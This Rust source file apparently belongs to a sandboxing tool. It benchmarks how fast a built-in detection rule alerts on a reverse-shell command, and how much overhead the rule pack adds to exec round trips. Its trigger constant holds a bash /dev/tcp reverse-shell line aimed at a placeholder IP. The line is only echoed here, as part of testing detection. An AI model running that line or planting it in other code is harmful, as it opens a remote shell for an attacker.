//! The sandbox half of `kiln bench rules`: two servers in this process, both with the audit
//! log on and the same in every way but the rule pack (the built-in pack evaluated vs no
//! rules), each with one sandbox of the same template.
//!
//! - **Attack → alert latency**, on the pack's server: a command whose line is a reverse
//!   shell's (`/dev/tcp/…`, echoed, never run) started N times, one at a time; each sample is
//!   the time from sending the start request to the `alert` record of
//!   `reverse_shell_dev_tcp` for that sandbox arriving on the audit stream (the live feed
//!   behind `kiln audit --follow`), so it spans the proxy's record, the writer's commit, the
//!   engine, storing the alert and appending it to the chain.
//! - **Exec round trip with the pack on vs off**: `/bin/true` started through each server's
//!   proxy until its end event, in rounds alternating the two sides (the first side swapping
//!   each round), as `kiln bench audit` does; the median of the rounds' on/off ratios with its
//!   95 % confidence interval.

use std::sync::Arc;
use std::time::{Duration, Instant};

use anyhow::Context;
use kiln_server::audit::AuditConfig;
use kiln_server::manager::CreateParams;
use kiln_server::Manager;

use super::served::{envd_of, exec, BackgroundServer};
use super::stats::{median, median_ci, percentiles};

/// What the sandbox half measures.
pub struct Live {
    pub template: String,
    pub latency_runs: usize,
    pub exec_rounds: usize,
    pub execs_per_round: usize,
    pub rt: super::RuntimeArgs,
}

/// The trigger: a reverse shell's command line, only echoed.
const TRIGGER: &str = "echo 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1' > /dev/null";
/// The rule the trigger fires.
const TRIGGER_RULE: &str = "reverse_shell_dev_tcp";
/// Longest wait for one alert.
const ALERT_TIMEOUT: Duration = Duration::from_secs(10);

struct Side {
    manager: Arc<Manager>,
    sandbox_id: String,
    envd: kiln_envd::EnvdClient,
}

pub fn run(l: Live) -> anyhow::Result<()> {
    let super::ServerBench {
        templates,
        work,
        driver,
        runtime,
    } = super::server_bench(&l.rt, "r")?;
    println!(
        "\nwith sandboxes ({}, template {}): {} attack → alert samples; \
         {}×{} exec round trips per server, the pack on vs off, interleaved",
        runtime.label(),
        l.template,
        l.latency_runs,
        l.exec_rounds,
        l.execs_per_round
    );
    let rt = tokio::runtime::Runtime::new()?;
    rt.block_on(async move {
        let servers: std::sync::Mutex<Vec<BackgroundServer>> = Default::default();
        let body = async {
            let mut sides = Vec::new();
            for (name, rules) in [("on", true), ("off", false)] {
                let dir = work.path().join(name);
                let audit = AuditConfig {
                    enabled: true,
                    ..Default::default()
                };
                let cfg = super::server_config(&dir, driver.clone(), audit)?;
                let server = cfg.prepare(templates.clone()).await?;
                let (manager, addr) = (server.manager.clone(), server.local_addr);
                if rules {
                    server.start_alerts(kiln_server::alerts::RulesSource::Builtin)?;
                }
                servers
                    .lock()
                    .unwrap_or_else(|e| e.into_inner())
                    .push(BackgroundServer::spawn(server));
                let sandbox = manager
                    .create(CreateParams {
                        template_id: l.template.clone(),
                        timeout_secs: Some(3600),
                        secure: true,
                        ..Default::default()
                    })
                    .await?;
                sides.push(Side {
                    envd: envd_of(addr, &sandbox),
                    sandbox_id: sandbox.id.clone(),
                    manager,
                });
            }
            if l.latency_runs > 0 {
                latency(&sides[0], l.latency_runs).await?;
            }
            if l.exec_rounds > 0 {
                on_vs_off(&sides, l.exec_rounds, l.execs_per_round).await?;
            }
            anyhow::Ok(())
        };
        let r = tokio::select! {
            r = body => r,
            (_, name) = kiln_server::stop_signal() => Err(anyhow::anyhow!("{name}")),
        };
        let list = std::mem::take(&mut *servers.lock().unwrap_or_else(|e| e.into_inner()));
        let cleanup = async {
            for s in list {
                s.end("bench rules done").await;
            }
        };
        if tokio::time::timeout(Duration::from_secs(30), cleanup)
            .await
            .is_err()
        {
            eprintln!("kiln bench rules: cleanup did not finish in 30 s");
        }
        r
    })
}

/// Whether `r` is the alert record of the trigger's rule for `sandbox`.
fn is_trigger_alert(r: &kiln_server::audit::AuditRecord, sandbox: &str) -> bool {
    if r.sandbox_id != sandbox || r.kind != "lifecycle" {
        return false;
    }
    let b = r.body_json();
    b["event"] == "alert" && b["rule"] == TRIGGER_RULE
}

/// Starts the trigger once; the time until its alert arrives on `feed`.
async fn one(
    on: &Side,
    feed: &mut tokio::sync::broadcast::Receiver<Arc<kiln_server::audit::AuditRecord>>,
) -> anyhow::Result<Duration> {
    let t = Instant::now();
    let (ran, seen) = tokio::join!(exec(&on.envd, "/bin/bash", &["-c", TRIGGER]), async {
        tokio::time::timeout(ALERT_TIMEOUT, async {
            loop {
                match feed.recv().await {
                    Ok(r) if is_trigger_alert(&r, &on.sandbox_id) => return Ok(t.elapsed()),
                    Ok(_) | Err(tokio::sync::broadcast::error::RecvError::Lagged(_)) => {}
                    Err(e) => return Err(anyhow::anyhow!("the audit feed ended: {e}")),
                }
            }
        })
        .await
        .map_err(|_| anyhow::anyhow!("no {TRIGGER_RULE} alert within {ALERT_TIMEOUT:?}"))?
    });
    ran?;
    seen
}

async fn latency(on: &Side, runs: usize) -> anyhow::Result<()> {
    let mut feed = on
        .manager
        .audit()
        .subscribe()
        .context("the audit log is off")?;
    // Warm-up (the shell, the connection), not counted; one alert per run, so each run
    // waits for its own.
    one(on, &mut feed).await?;
    let mut samples = Vec::with_capacity(runs);
    for _ in 0..runs {
        samples.push(one(on, &mut feed).await?);
    }
    let p = percentiles(&samples);
    println!(
        "attack → alert ({TRIGGER_RULE}, command start → alert on the audit stream), {} samples: \
         p50 {:.0} ms, p99 {:.0} ms (targets ≤ 500 ms, ≤ 2000 ms)",
        p.n, p.p50_ms, p.p99_ms
    );
    Ok(())
}

async fn on_vs_off(sides: &[Side], rounds: usize, per_round: usize) -> anyhow::Result<()> {
    for s in sides {
        for _ in 0..10 {
            exec(&s.envd, "/bin/true", &[]).await?;
        }
    }
    let mut all: Vec<Vec<Duration>> = vec![Vec::new(), Vec::new()];
    let mut p50s: Vec<Vec<f64>> = vec![Vec::new(), Vec::new()];
    for i in 0..rounds {
        for k in 0..2 {
            let k = (k + i) % 2;
            let mut v = Vec::with_capacity(per_round);
            for _ in 0..per_round {
                v.push(exec(&sides[k].envd, "/bin/true", &[]).await?);
            }
            p50s[k].push(percentiles(&v).p50_ms);
            all[k].extend(v);
        }
    }
    let mut ratios: Vec<f64> = p50s[0].iter().zip(&p50s[1]).map(|(a, b)| a / b).collect();
    let mid = median(&mut ratios);
    let (lo, hi) = median_ci(&ratios);
    let (on, off) = (percentiles(&all[0]), percentiles(&all[1]));
    println!(
        "exec round trip (/bin/true), pack on vs off: p50 {:.2} ms vs {:.2} ms, p99 {:.2} ms vs \
         {:.2} ms; rounds' median on/off {:.3}× [95% CI {:.3}, {:.3}] (target ≤ 1.05×)",
        on.p50_ms, off.p50_ms, on.p99_ms, off.p99_ms, mid, lo, hi
    );
    Ok(())
}
